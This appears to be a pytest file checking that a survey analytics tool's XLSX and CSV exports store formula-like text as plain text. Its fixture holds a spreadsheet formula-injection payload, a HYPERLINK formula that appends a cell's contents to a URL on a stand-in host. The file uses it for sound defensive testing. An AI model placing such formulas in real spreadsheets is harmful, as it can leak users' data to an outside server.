"""``kundpuls analytics … --out`` files: text that looks like a formula is never a live formula."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from kundpuls.cli.analytics import write_table

FORMULA = '=HYPERLINK("http://x.example/?"&B3,"Personal")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame({"unit": [FORMULA, "Norr"], "index": [-1.25, 70.0], "n": [12, 30]})


def test_the_xlsx_holds_the_unit_name_as_text_and_the_numbers_as_numbers(
    frame: pd.DataFrame, tmp_path: Path
) -> None:
    write_table(frame, tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert sheet is not None
    assert sheet["A2"].value == FORMULA and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -1.25 and sheet["B2"].data_type == "n"


def test_the_csv_quotes_the_unit_name_and_keeps_negative_numbers(frame: pd.DataFrame, tmp_path: Path) -> None:
    write_table(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["unit"].tolist() == ["'" + FORMULA, "Norr"]
    assert back["index"].tolist() == [-1.25, 70.0]
